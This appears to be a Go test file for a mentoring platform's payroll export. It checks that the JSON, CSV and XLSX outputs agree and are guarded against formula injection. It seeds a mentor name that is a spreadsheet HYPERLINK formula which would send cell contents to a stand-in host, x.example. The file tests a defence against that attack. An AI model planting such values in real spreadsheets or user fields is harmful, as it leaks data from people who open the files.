package web_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/mentorhub/mentorhub/internal/app"
	"github.com/mentorhub/mentorhub/internal/auth"
	"github.com/mentorhub/mentorhub/internal/people"
	"github.com/xuri/excelize/v2"
)

// The payroll through the API: two mentors' approved months, one of them
// named "=HYPERLINK(…)"; the JSON holds amounts computed here from the
// contract's formula; the CSV (Accept: text/csv) and the XLSX hold the same
// figures, and the name is text, never a formula, in both.
func TestPayrollExportsHoldTheSameSafeFigures(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	pilot := e.demo.Programs["uib-mn-pilot"].ID
	prog := "/api/v1/programs/" + strconv.FormatInt(pilot, 10)
	tok := e.token(t, "coordinator@demo.mentorhub.no")
	sys := app.WithActor(context.Background(), app.SystemActor)
	// A mentor whose name a spreadsheet would run as a formula.
	ms, err := e.app.People.Participants(sys, pilot, people.Mentor)
	if err != nil {
		t.Fatal(err)
	}
	acct, err := e.app.Auth.CreateAccount(sys, auth.CreateAccountInput{InstitutionID: e.demo.Institution.ID, Email: "evil@test.example",
		GivenName: `=HYPERLINK("http://x.example/?"&A1`, FamilyName: `"klikk")`, StudentNumber: "M-EVIL"})
	if err != nil {
		t.Fatal(err)
	}
	evil := ms[1]
	evil.ID, evil.PersonID, evil.ExternalID = 0, acct.PersonID, "M-EVIL"
	if _, err := e.app.Repos.People.CreateParticipant(sys, evil); err != nil {
		t.Fatal(err)
	}
	must := func(code int, body string) string {
		t.Helper()
		if code/100 != 2 {
			t.Fatalf("%d: %.400s", code, body)
		}
		return body
	}
	must(e.send(t, tok, "PUT", prog+"/rates", `{"hourly": 187.25, "per_item": {"feedback": 95.5, "reports": 310}}`))
	sheets := map[string]string{
		"90001":  `[{"category": "sessions", "hours": 10.75}, {"category": "preparation", "hours": 4.25}, {"category": "feedback", "hours": 3, "items": 7}]`,
		"M-EVIL": `[{"category": "desk", "hours": 6}, {"category": "reports", "hours": 2.5, "items": 3}, {"category": "training", "hours": 8}]`,
	}
	// The contract's formula, by hand in øre: Σ hours × 18725 + Σ items × the item rate.
	want := map[string]string{
		"90001": fmt.Sprintf("%.2f", (10.75+4.25+3)*187.25+7*95.5), // 3370.50 + 668.50 = 4039.00
		// 16.5 h × 187.25 = 3089.625, + 3 × 310 = 4019.625: half an øre, rounded up
		"M-EVIL": "4019.63",
	}
	for mentor, lines := range sheets {
		var ts struct {
			ID     int64   `json:"id"`
			Amount float64 `json:"amount"`
		}
		b := must(e.send(t, tok, "POST", prog+"/timesheets", `{"mentor_id": "`+mentor+`", "month": "2026-07", "lines": `+lines+`}`))
		if err := json.Unmarshal([]byte(b), &ts); err != nil {
			t.Fatal(err)
		}
		must(e.send(t, tok, "POST", "/api/v1/timesheets/"+strconv.FormatInt(ts.ID, 10)+"/approve", `{}`))
	}
	// A submitted, unapproved month of a third mentor is no part of the payroll.
	must(e.send(t, tok, "POST", prog+"/timesheets", `{"mentor_id": "90002", "month": "2026-07", "lines": [{"category": "sessions", "hours": 1}]}`))

	get := func(accept, query string) []byte {
		t.Helper()
		req, _ := http.NewRequest("GET", e.srv.URL+prog+"/payroll?month=2026-07"+query, nil)
		req.Header.Set("Authorization", "Bearer "+tok)
		if accept != "" {
			req.Header.Set("Accept", accept)
		}
		r, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer r.Body.Close()
		b, _ := io.ReadAll(r.Body)
		if r.StatusCode != 200 {
			t.Fatalf("payroll %s: %d %s", accept, r.StatusCode, b)
		}
		return b
	}
	var rows []struct {
		EmployeeID string             `json:"employee_id"`
		MentorID   string             `json:"mentor_id"`
		Name       string             `json:"name"`
		Hours      map[string]float64 `json:"hours"`
		Items      int                `json:"items"`
		Rate       json.Number        `json:"rate"`
		Amount     json.Number        `json:"amount"`
	}
	if err := json.Unmarshal(get("", ""), &rows); err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 {
		t.Fatalf("payroll rows: %+v", rows)
	}
	figures := map[string][]string{} // mentor id → hours by category, items, rate, amount as the JSON says
	for _, r := range rows {
		if r.Amount.String() != want[r.MentorID] || r.Rate.String() != "187.25" {
			t.Errorf("%s: amount %s rate %s, want %s 187.25", r.MentorID, r.Amount, r.Rate, want[r.MentorID])
		}
		var f []string
		for _, c := range []string{"sessions", "preparation", "feedback", "desk", "meetings", "reports", "training"} {
			f = append(f, strconv.FormatFloat(r.Hours[c], 'f', -1, 64))
		}
		figures[r.MentorID] = append(f, strconv.Itoa(r.Items), r.Rate.String(), r.Amount.String())
	}

	recs, err := csv.NewReader(bytes.NewReader(get("text/csv", ""))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	head := strings.Join(recs[0], ",")
	if head != "employee_id,mentor_id,name,period,hours_sessions,hours_preparation,hours_feedback,hours_desk,hours_meetings,hours_reports,hours_training,items,rate,amount" || len(recs) != 3 {
		t.Fatalf("CSV: %q", recs)
	}
	for _, rec := range recs[1:] {
		id := rec[1]
		if got := strings.Join(rec[4:], " "); got != strings.Join(figures[id], " ") {
			t.Errorf("CSV %s: %s, JSON %s", id, got, strings.Join(figures[id], " "))
		}
		if id == "M-EVIL" && !strings.HasPrefix(rec[2], "'=") {
			t.Errorf("the CSV name is not guarded: %q", rec[2])
		}
	}

	x, err := excelize.OpenReader(bytes.NewReader(get("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "")))
	if err != nil {
		t.Fatal(err)
	}
	xrows, err := x.GetRows("Payroll")
	if err != nil || len(xrows) != 3 {
		t.Fatalf("XLSX rows: %v %v", xrows, err)
	}
	for i, xr := range xrows[1:] {
		id := xr[1]
		var got []string
		for _, v := range xr[4:] {
			f, err := strconv.ParseFloat(v, 64)
			if err != nil {
				t.Fatalf("XLSX cell %q is no number", v)
			}
			got = append(got, strconv.FormatFloat(f, 'f', -1, 64))
		}
		var wantF []string
		for _, v := range figures[id] {
			f, _ := strconv.ParseFloat(v, 64)
			wantF = append(wantF, strconv.FormatFloat(f, 'f', -1, 64))
		}
		if strings.Join(got, " ") != strings.Join(wantF, " ") {
			t.Errorf("XLSX %s: %v, JSON %v", id, got, wantF)
		}
		cell, _ := excelize.CoordinatesToCellName(3, i+2)
		if f, _ := x.GetCellFormula("Payroll", cell); f != "" {
			t.Errorf("the XLSX name cell %s is a formula: %q", cell, f)
		}
		if id == "M-EVIL" && !strings.HasPrefix(xr[2], "=HYPERLINK") {
			t.Errorf("the XLSX name changed: %q", xr[2])
		}
	}
}
